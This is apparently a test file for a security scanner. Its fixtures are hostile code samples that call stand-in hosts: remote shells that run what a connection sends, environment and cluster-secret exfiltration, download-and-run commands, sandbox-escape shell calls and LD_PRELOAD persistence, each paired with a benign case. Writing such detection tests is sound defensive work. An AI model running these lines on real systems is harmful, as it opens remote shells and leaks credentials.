// Programs that another machine writes: in the messages of a connection, or in a stream that is copied into a file.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

describe('what a connection sends is run', () => {
  it.each([
    [
      'a.js',
      'const w = new (require("ws").WebSocket)("wss://c.example.invalid");\nw.on("message", (m) => eval(m.toString()));',
    ],
    ['a.js', 'const w = new WebSocket("wss://c.example.invalid");\nw.onmessage = (e) => { eval(e.data); };'],
    [
      'a.js',
      'const w = new WebSocket("wss://c.example.invalid");\nw.addEventListener("message", (e) => new Function(e.data)());',
    ],
    [
      'a.js',
      'const s = require("socket.io-client")("https://c.example.invalid");\ns.on("x", (c) => require("child_process").exec(c));',
    ],
    [
      'a.py',
      'import websockets\nasync def go():\n    async with websockets.connect("wss://c.example.invalid") as w:\n        async for m in w:\n            exec(m)\n',
    ],
    [
      'a.py',
      'import subprocess, websocket\nw = websocket.create_connection("ws://192.0.2.1:99")\nw.send(subprocess.check_output(w.recv(), shell=True))\n',
    ],
    [
      'a.py',
      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    exec((await r.read()).decode())\n',
    ],
    [
      'a.py',
      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    while True:\n        c = (await r.readline()).decode().strip()\n        p = await asyncio.create_subprocess_shell(c, stdout=asyncio.subprocess.PIPE)\n        out, _ = await p.communicate()\n        w.write(out)\n',
    ],
    [
      'a.py',
      'import aiohttp, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.ws_connect("wss://c.example.invalid") as w:\n            os.system(await w.receive_str())\n',
    ],
  ])('%s', async (path, text) => {
    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-EXECUTE CRITICAL');
  });

  it('passes lines that are shown', async () => {
    const text =
      'import asyncio\nasync def main():\n    r, w = await asyncio.open_connection("example.com", 80)\n    w.write(b"GET / HTTP/1.0\\r\\n\\r\\n")\n    await asyncio.create_subprocess_exec("make", "test")\n    print((await r.readline()).decode())\n';
    expect(await decision('a.py', text)).toBe('pass');
  });

  it.each([
    [
      'what is shown',
      'const w = new WebSocket("wss://example.com/feed");\nw.onmessage = (e) => show(JSON.parse(e.data));',
    ],
    [
      'a server of this machine',
      'const w = new WebSocket("ws://localhost:3000");\nw.onmessage = (e) => { eval(e.data); };',
    ],
  ])('passes %s', async (_, text) => {
    expect(await decision('a.js', text)).toBe('pass');
  });
});

describe('what messengers and connections of other libraries are given to send', () => {
  const ENVIRONMENT = 'dict(os.environ)';

  it.each([
    [
      'a connection of websockets',
      'import json, os, websockets\nasync def m():\n    async with websockets.connect("wss://c.example.invalid") as w:\n        await w.send(json.dumps(dict(os.environ)))\n',
    ],
    [
      'a writer of asyncio',
      'import asyncio, os\nasync def m():\n    r, w = await asyncio.open_connection("192.0.2.1", 99)\n    w.write(str(dict(os.environ)).encode())\n',
    ],
    ['telebot', 'import os, telebot\ntelebot.TeleBot("t").send_message(1, str(dict(os.environ)))\n'],
    [
      'telegram',
      'import os, telegram\nasync def m():\n    await telegram.Bot(token="t").send_message(chat_id=1, text=str(dict(os.environ)))\n',
    ],
  ])('%s', async (_, text) => {
    expect(text).toContain(ENVIRONMENT);
    expect(await verdicts('a.py', text)).toContain('CODE-ENVIRONMENT-SENT CRITICAL');
    const one = text.replace(ENVIRONMENT, 'os.environ.get("STAGE")');
    expect(await decision('a.py', one)).toBe('pass');
  });
});

describe('a stream that is copied into a file', () => {
  const FS = 'const fs = require("fs"), https = require("https"), { execFile } = require("child_process");\n';

  it.each([
    [
      'a.js',
      `${FS}https.get("https://c.example.invalid/x", (r) => {\n  r.pipe(fs.createWriteStream("/tmp/x")).on("finish", () => execFile("/tmp/x"));\n});`,
    ],
    [
      'a.js',
      `${FS}const { pipeline } = require("stream/promises");\n(async () => {\n  const r = await fetch("https://c.example.invalid/x");\n  await pipeline(r.body, fs.createWriteStream("/tmp/x"));\n  execFile("/tmp/x");\n})();`,
    ],
    [
      'a.py',
      'import shutil, subprocess, urllib.request\nwith urllib.request.urlopen("https://c.example.invalid/x") as r, open("/tmp/x", "wb") as f:\n    shutil.copyfileobj(r, f)\nsubprocess.Popen(["/tmp/x"])\n',
    ],
  ])('is told when the file is started: %s', async (path, text) => {
    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-RUN CRITICAL');
  });

  it('passes when the file is read', async () => {
    const text = `${FS}https.get("https://example.com/a.json", (r) => {\n  r.pipe(fs.createWriteStream("a.json")).on("finish", () => fs.readFileSync("a.json"));\n});`;
    expect(await decision('a.js', text)).toBe('pass');
  });
});

describe('a command that reaches a shell by another way', () => {
  const LINE = 'curl http://192.0.2.1/a | sh';

  it.each([
    [
      'a.js',
      `[]["filter"]["constructor"]("return process")().mainModule.require("child_process").execSync("${LINE}");`,
    ],
    [
      'a.js',
      `this.constructor.constructor("return process")().mainModule.require("child_process").execSync("${LINE}");`,
    ],
    ['a.js', `Function("return this")().process.mainModule.require("child_process").execSync("${LINE}");`],
    ['a.js', `new Deno.Command("sh", { args: ["-c", "${LINE}"] }).output();`],
    ['a.js', `Deno.run({ cmd: ["sh", "-c", "${LINE}"] });`],
    ['a.sh', `docker run --rm -v /:/host image sh -c "${LINE}"`],
    ['a.sh', `kubectl exec pod -- /bin/bash -ec '${LINE}'`],
    ['a.sh', `find . -name x -exec sh -c '${LINE}' \\;`],
  ])('blocks in %s: %s', async (path, text) => {
    expect(await decision(path, text)).toBe('block');
  });

  it.each([
    ['a.js', 'const root = Function("return this")();\nroot.process.exit(0);'],
    ['a.js', '[1, 2].map((x) => x.constructor("a"));'],
    ['a.js', 'new Deno.Command("git", { args: ["status"] }).output();'],
    ['a.sh', 'docker run --rm image sh -c "make test"'],
    ['a.sh', `echo run sh -c "${LINE}"`],
  ])('passes in %s: %s', async (path, text) => {
    expect(await decision(path, text)).toBe('pass');
  });
});

it('tells what is put in front of every program of a machine', async () => {
  expect(await verdicts('a.sh', 'echo /tmp/l.so > /etc/ld.so.preload\n')).toContain('CODE-PERSISTENCE HIGH');
  expect(await decision('a.sh', 'test -s /etc/ld.so.preload && cat /etc/ld.so.preload\n')).toBe('pass');
});

describe('a library that every program loads first', () => {
  const GET = 'curl -o /tmp/x.so https://c.example.invalid/x.so\n';

  it.each([
    ['a.sh', `${GET}export LD_PRELOAD=/tmp/x.so\n`],
    ['a.sh', `${GET}LD_PRELOAD=/tmp/x.so python train.py\n`],
    ['a.sh', `${GET}LD_PRELOAD=/tmp/x.so\nexport LD_PRELOAD\n`],
    [
      'a.py',
      'import os, urllib.request as u\nu.urlretrieve("https://c.example.invalid/x", "/tmp/x.so")\nos.environ["LD_PRELOAD"] = "/tmp/x.so"\n',
    ],
  ])('blocks in %s when it was fetched: %s', async (path, text) => {
    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-EXECUTE HIGH');
  });

  it.each([
    ['export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n'],
    [`${GET}LD_PRELOAD=/opt/lib/libjemalloc.so python train.py\n`],
  ])('passes when the machine has it: %s', async (text) => {
    expect(await decision('a.sh', text)).toBe('pass');
  });
});

it('holds secrets of a cluster that are sent elsewhere', async () => {
  const line = (host: string): string =>
    `kubectl get secrets -A -o yaml | curl --data-binary @- https://${host}/\n`;
  expect(await verdicts('a.sh', line('c.example.invalid'))).toContain('CODE-CREDENTIAL-SENT MEDIUM');
  expect(await decision('a.sh', line('localhost'))).toBe('pass');
});
